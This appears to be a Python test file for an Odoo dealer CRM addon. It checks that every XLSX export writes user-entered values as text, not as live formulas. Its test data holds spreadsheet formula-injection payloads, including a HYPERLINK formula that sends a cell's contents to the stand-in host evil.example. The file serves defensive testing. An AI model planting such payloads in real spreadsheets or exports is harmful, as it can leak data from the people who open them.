# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Issue 23, case 4: text typed by people is text in every XLSX file of the addon."""

import base64
import io

from openpyxl import load_workbook

from odoo.tests import tagged

from .common import DealerCrmCase

FORMULAS = ("=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "@SUM(1,2)")


@tagged("post_install", "-at_install")
class TestXlsxText(DealerCrmCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.customer.write({"function": "=1+2", "city": "@SUM(1,2)"})
        cls.interaction = cls.env["dealer.interaction"].create(
            {
                "partner_id": cls.customer.id,
                "subject": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            }
        )
        cls.owner = cls.env["res.partner"].create({"name": "=1+2", "phone": "+1+1"})
        cls.vehicle = cls._create_vehicle(owner_id=cls.owner.id, license_plate="=A1")
        cls.ticket = cls._create_ticket(cls.customer, name="=HYPERLINK(1)")
        cls.trend = cls.env["dealer.trend.report"].create(
            {"date_from": cls._today().replace(day=1), "date_to": cls._today()}
        )

    def _assert_text(self, content):
        """No cell of the workbook is a formula; the hostile values read back as text."""
        book = load_workbook(io.BytesIO(content))
        seen = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(
                        cell.data_type, "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    )
                    if isinstance(cell.value, str) and cell.value[:1] in "=+@":
                        self.assertEqual(cell.data_type, "s")
                        seen.add(cell.value)
        return seen

    def test_access_export_writes_job_title_and_subject_as_text(self):
        wizard = (
            self.env["dealer.access.export"]
            .with_user(self.user_relations)
            .create({"partner_id": self.customer.id, "file_format": "xlsx"})
        )
        wizard.action_export()
        content = base64.b64decode(wizard.data)
        seen = self._assert_text(content)
        self.assertIn("=1+2", seen)
        self.assertIn('=HYPERLINK("http://evil.example/?x="&A1,"Click")', seen)
        book = load_workbook(io.BytesIO(content))
        header = [c.value for c in book["Contact"][1]]
        title = book["Contact"].cell(2, header.index("Job Position") + 1)
        self.assertEqual((title.value, title.data_type), ("=1+2", "s"))

    def test_every_xlsx_report_writes_text_as_text(self):
        records = {
            "dealer_crm.customer_register": (self.customer | self.owner, self.user_sales),
            "dealer_crm.complaint_register": (self.ticket, self.user_relations),
            "dealer_crm.vehicle_call_list": (self.vehicle, self.user_service),
            "dealer_crm.trend_report_xlsx": (self.trend, self.user_manager),
        }
        reports = self.env["ir.actions.report"].search(
            [("report_type", "=", "xlsx"), ("report_name", "=like", "dealer_crm.%")]
        )
        # a new XLSX export must be added here, with hostile text of its own
        self.assertEqual(set(reports.mapped("report_name")), set(records))
        for report_name, (recs, user) in records.items():
            with self.subTest(report=report_name):
                content, kind = (
                    self.env["ir.actions.report"].with_user(user)._render(report_name, recs.ids)
                )
                self.assertEqual(kind, "xlsx")
                seen = self._assert_text(content)
                if report_name != "dealer_crm.trend_report_xlsx":
                    self.assertTrue(seen, "the hostile text is in the file, as text")
